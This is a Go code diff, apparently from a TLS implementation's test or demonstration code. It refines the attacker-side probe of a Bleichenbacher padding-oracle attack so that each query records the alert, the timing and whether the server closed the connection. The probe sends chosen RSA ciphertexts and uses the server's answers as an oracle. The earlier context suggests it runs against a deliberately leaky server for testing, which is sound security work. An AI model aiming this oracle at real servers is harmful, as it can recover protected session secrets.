@@ -169,14 +169,20 @@ func (l *bleichLeaky) readFinished(rc *record.Conn, ch *handshake.ClientHello, s
 
 // --- the attacker's side ---------------------------------------------
 
+// bleichAnswer is everything an attacker observes of one answer.
+type bleichAnswer struct {
+	alert   record.AlertDescription // the alert that ended the connection; 255: none came
+	elapsed time.Duration           // from sending the ClientKeyExchange to the answer
+	closed  bool                    // the server closed the connection after it
+}
+
 // bleichProbe is one question to a server: a full handshake up to the
-// client's Finished with the chosen ciphertext as ClientKeyExchange. It
-// returns the alert that ended the connection (255 when none came) and the
-// time from sending the ClientKeyExchange to the answer.
-func bleichProbe(addr string, c []byte, random io.Reader) (record.AlertDescription, time.Duration, error) {
+// client's Finished with the chosen ciphertext as ClientKeyExchange.
+func bleichProbe(addr string, c []byte, random io.Reader) (bleichAnswer, error) {
+	var ans bleichAnswer
 	conn, err := net.Dial("tcp", addr)
 	if err != nil {
-		return 0, 0, err
+		return ans, err
 	}
 	defer conn.Close()
 	conn.SetDeadline(time.Now().Add(10 * time.Second))
@@ -186,14 +192,14 @@ func bleichProbe(addr string, c []byte, random io.Reader) (record.AlertDescripti
 	io.ReadFull(random, ch.Random[:])
 	raw, err := ch.Marshal()
 	if err != nil {
-		return 0, 0, err
+		return ans, err
 	}
 	if err := rc.WriteHandshake(raw); err != nil {
-		return 0, 0, err
+		return ans, err
 	}
 	for _, t := range []handshake.HandshakeType{handshake.TypeServerHello, handshake.TypeCertificate, handshake.TypeServerHelloDone} {
 		if _, err := rc.ReadHandshakeOf(uint8(t)); err != nil {
-			return 0, 0, fmt.Errorf("the server's flight: %w", err)
+			return ans, fmt.Errorf("the server's flight: %w", err)
 		}
 	}
 	// The Finished goes out under a random key: what a client whose
@@ -202,11 +208,11 @@ func bleichProbe(addr string, c []byte, random io.Reader) (record.AlertDescripti
 	io.ReadFull(random, key)
 	aead, err := attackNewAEAD(key[:16])
 	if err != nil {
-		return 0, 0, err
+		return ans, err
 	}
 	prot, err := record.NewProtection(aead, key[16:])
 	if err != nil {
-		return 0, 0, err
+		return ans, err
 	}
 	rc.SetPendingWrite(prot)
 	cke, _ := (&handshake.ClientKeyExchange{EncryptedPreMasterSecret: c}).Marshal()
@@ -216,12 +222,17 @@ func bleichProbe(addr string, c []byte, random io.Reader) (record.AlertDescripti
 	rc.WriteChangeCipherSpec()
 	rc.WriteHandshake(fin)
 	_, err = rc.ReadHandshake()
-	elapsed := time.Since(start)
+	ans.elapsed = time.Since(start)
+	ans.alert = 255
 	var alert *record.AlertReceivedError
 	if errors.As(err, &alert) {
-		return alert.Description, elapsed, nil
+		ans.alert = alert.Description
 	}
-	return 255, elapsed, nil
+	// Does the server hang up, or leave the connection open?
+	conn.SetReadDeadline(time.Now().Add(2 * time.Second))
+	_, err = conn.Read(make([]byte, 1))
+	ans.closed = errors.Is(err, io.EOF)
+	return ans, nil
 }
 
 // bleichTLSOracle returns an oracle that asks the server at addr over TLS
@@ -230,12 +241,12 @@ func bleichProbe(addr string, c []byte, random io.Reader) (record.AlertDescripti
 func bleichTLSOracle(addr string, random io.Reader) (func([]byte) (bool, error), func() map[record.AlertDescription]int) {
 	tally := map[record.AlertDescription]int{}
 	ask := func(c []byte) (bool, error) {
-		alert, _, err := bleichProbe(addr, c, random)
+		ans, err := bleichProbe(addr, c, random)
 		if err != nil {
 			return false, fmt.Errorf("asking the server: %w", err)
 		}
-		tally[alert]++
-		return alert == record.BadRecordMAC, nil
+		tally[ans.alert]++
+		return ans.alert == record.BadRecordMAC, nil
 	}
 	return ask, func() map[record.AlertDescription]int { return maps.Clone(tally) }
 }
